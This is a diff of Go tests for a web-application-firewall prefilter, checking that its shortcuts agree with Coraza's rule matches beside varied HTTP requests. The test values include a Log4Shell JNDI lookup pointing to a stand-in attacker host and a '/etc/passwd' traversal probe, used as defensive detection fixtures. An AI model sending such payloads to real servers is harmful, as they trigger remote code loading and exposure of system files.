@@ -72,8 +72,9 @@ func inFull(matches []engine.Match, err error) []string {
 	return out
 }
 
-// certainOf are suspects with what is certain of each value.
-func certainOf(sieve *Sieve, s *Suspects, values []engine.Value) *engine.Suspects {
+// certainOf are suspects of values, which may stand beside a request, with what is certain of each value.
+func certainOf(sieve *Sieve, r *Request, values []engine.Value) *engine.Suspects {
+	s := new(Suspects)
 	asked := &engine.Suspects{Matches: s.Matches}
 	for _, v := range values {
 		s.Begin()
@@ -81,8 +82,39 @@ func certainOf(sieve *Sieve, s *Suspects, values []engine.Value) *engine.Suspect
 		asked.ByValue = append(asked.ByValue, slices.Clone(s.Since()))
 		asked.Certain = append(asked.Certain, slices.Clone(s.Certain()))
 	}
+	asked.ValuesOnly = r != nil && !sieve.SuspectRequest(r, s)
 	asked.Rules, _ = s.Rules()
 	return asked
+}
+
+// toldTwice compares what the engine finds if some of it is certain, and if nothing is. It counts the matches, and notes which rules
+// were certain.
+func toldTwice(t *testing.T, level int, r *Request, values []engine.Value, address string, told map[int]bool) (matches int) {
+	t.Helper()
+	var request *engine.Request
+	if r != nil {
+		request = asEngine(r)
+		request.ClientIP = address
+	}
+	asked := certainOf(sieveAt(level), r, values)
+	few, err := engineAt(t, level).Evaluate(context.Background(), request, values, asked)
+	asked.Certain = nil
+	long, longErr := engineAt(t, level).Evaluate(context.Background(), request, values, asked)
+	without := make(map[int]bool) // a text: those that are certain
+	for _, m := range few {
+		if m.Text == "" && m.Value >= 0 {
+			without[m.Rule], told[m.Rule] = true, true
+		}
+	}
+	for i := range long {
+		if without[long[i].Rule] {
+			long[i].Text = ""
+		}
+	}
+	if got, want := inFull(few, err), inFull(long, longErr); !slices.Equal(got, want) {
+		t.Errorf("level %d, %q beside %+v: Coraza says\n%s\nwith what is certain\n%s", level, values, r, strings.Join(want, "\n"), strings.Join(got, "\n"))
+	}
+	return len(few)
 }
 
 // What is certain, Coraza would say word for word, in the same place, with whatever else it is asked about.
@@ -97,7 +129,6 @@ func TestWhatIsCertainIsWhatTheEngineFinds(t *testing.T) {
 	texts := slices.Concat(nearly, spelt(n, 47), mustList(t, attacks), mustList(t, regressions), mustList(t, fixtures), plain, transformed, traps)
 	told, all := make(map[int]bool), 0
 	for level := 1; level <= 4; level++ {
-		e := engineAt(t, level)
 		for i, text := range texts {
 			if i >= len(nearly) && i%every != level%every || !sieveAt(level).MayMatch([]byte(text)) {
 				continue
@@ -106,25 +137,7 @@ func TestWhatIsCertainIsWhatTheEngineFinds(t *testing.T) {
 			for n, name := range []string{"", "b", "c"}[:i%4] { // they differ, since the links of a chain tell Coraza's texts by name
 				values = append(values, engine.Value{Name: name, Text: texts[(i*31+n*1009+7)%len(texts)]})
 			}
-			var suspects Suspects
-			asked := certainOf(sieveAt(level), &suspects, values)
-			few, err := e.Evaluate(context.Background(), nil, values, asked)
-			asked.Certain = nil
-			long, longErr := e.Evaluate(context.Background(), nil, values, asked)
-			without := make(map[int]bool) // a text: those that are certain
-			for _, m := range few {
-				if all++; m.Text == "" {
-					without[m.Rule], told[m.Rule] = true, true
-				}
-			}
-			for i := range long {
-				if without[long[i].Rule] {
-					long[i].Text = ""
-				}
-			}
-			if got, want := inFull(few, err), inFull(long, longErr); !slices.Equal(got, want) {
-				t.Errorf("level %d, %q: Coraza says\n%s\nwith what is certain\n%s", level, values, strings.Join(want, "\n"), strings.Join(got, "\n"))
-			}
+			all += toldTwice(t, level, nil, values, "", told)
 		}
 	}
 	t.Logf("%d matches, and %d rules were certain", all, len(told))
@@ -133,17 +146,83 @@ func TestWhatIsCertainIsWhatTheEngineFinds(t *testing.T) {
 	}
 }
 
-// Beside a request Coraza is asked about all: what steers may look at it.
-func TestNothingIsCertainBesideARequest(t *testing.T) {
+// The same holds beside requests of all kinds.
+func TestWhatIsCertainBesideARequestIsWhatTheEngineFinds(t *testing.T) {
+	n := 600
+	switch {
+	case *full:
+		n = 20_000
+	case testing.Short():
+		n = 150
+	}
+	corpus, err := requests()
+	if err != nil {
+		t.Fatal(err)
+	}
+	values := slices.DeleteFunc(slices.Concat(mustList(t, attacks), mustList(t, regressions), nearly), func(text string) bool {
+		return !sieveAt(1).MayMatch([]byte(text))
+	})
+	s := newSpeller(53)
+	texts := slices.Concat(mustList(t, regressions), plain, transformed)
+	told, all := make(map[int]bool), 0
+	for level := 1; level <= 4; level++ {
+		beside := 0
+		for range n {
+			r := honest[s.IntN(len(honest))]
+			if s.IntN(4) == 0 {
+				r = corpus[s.IntN(len(corpus))]
+			}
+			for range s.IntN(3) {
+				r = s.vary(r, texts)
+			}
+			some := []engine.Value{{Name: "a", Text: values[s.IntN(len(values))]}, {Name: "page", Text: values[s.IntN(len(values))]}}[:1+s.IntN(2)]
+			if sieveAt(level).MayMatchRequest(r) {
+				continue // then nothing is certain
+			}
+			beside++
+			all += toldTwice(t, level, r, some, "192.0.2.7", told)
+		}
+		t.Logf("level %d: beside %d requests of which nothing was suspected", level, beside)
+		if beside == 0 {
+			t.Errorf("level %d: something was suspected of every request", level)
+		}
+	}
+	t.Logf("%d matches, and %d rules were certain", all, len(told))
+	if len(told) < 20 {
+		t.Errorf("only %d rules were ever certain", len(told))
+	}
+}
+
+// Requests that a web server sends to itself are no others than they seem, whichever way their values are judged.
+func TestNoRequestTakesTheRulesAway(t *testing.T) {
 	values := []engine.Value{{Name: "a", Text: "${jndi:ldap://attacker.example/a}"}}
-	var suspects Suspects
-	asked := certainOf(sieveAt(1), &suspects, values)
-	request := &engine.Request{Method: "GET", URI: "/", Protocol: "HTTP/1.1", ClientIP: "192.0.2.1", Headers: []engine.Header{{Name: "Host", Value: "a"}}}
-	for with, want := range map[*engine.Request]bool{nil: true, request: false} {
-		matches, err := engineAt(t, 1).Evaluate(context.Background(), with, values, asked)
-		at := slices.IndexFunc(matches, func(m engine.Match) bool { return m.Rule == 944150 })
+	told := make(map[int]bool)
+	for _, agent := range []string{"Apache/2.4.58 (Ubuntu) (internal dummy connection)", browser[1].Value} {
+		for _, line := range []Request{{Method: "GET", URI: "/"}, {Method: "GET", URI: "/", Protocol: "HTTP/1.0"}, {Method: "OPTIONS", URI: "*", Protocol: "HTTP/1.0"}} {
+			line.Headers = []Header{{"Host", "shop.example.com"}, {"User-Agent", agent}, {"Accept", "*/*"}}
+			for level := 1; level <= 4; level++ {
+				for _, address := range []string{"127.0.0.1", "::1", "192.0.2.7"} {
+					if toldTwice(t, level, &line, values, address, told) == 0 {
+						t.Errorf("level %d: nothing is found beside %+v from %s", level, line, address)
+					}
+				}
+			}
+		}
+	}
+	if !told[944150] {
+		t.Error("the rule was never certain")
+	}
+}
+
+// Where something is suspected of the request, Coraza is asked about all.
+func TestNothingIsCertainBesideARequestThatIsSuspect(t *testing.T) {
+	values := []engine.Value{{Name: "a", Text: "${jndi:ldap://attacker.example/a}"}}
+	for uri, want := range map[string]bool{"/": true, "/?a=${jndi:ldap://attacker.example/a}": false, "/?a=/etc/passwd": false} {
+		r := &Request{Method: "GET", URI: uri, Protocol: "HTTP/1.1", Headers: browser}
+		matches, err := engineAt(t, 1).Evaluate(context.Background(), asEngine(r), values, certainOf(sieveAt(1), r, values))
+		at := slices.IndexFunc(matches, func(m engine.Match) bool { return m.Rule == 944150 && m.Value == 0 })
 		if err != nil || at < 0 || (matches[at].Text == "") != want {
-			t.Errorf("beside %v: %+v, %v", with, matches, err)
+			t.Errorf("beside %s: %+v, %v", uri, matches, err)
 		}
 	}
 }
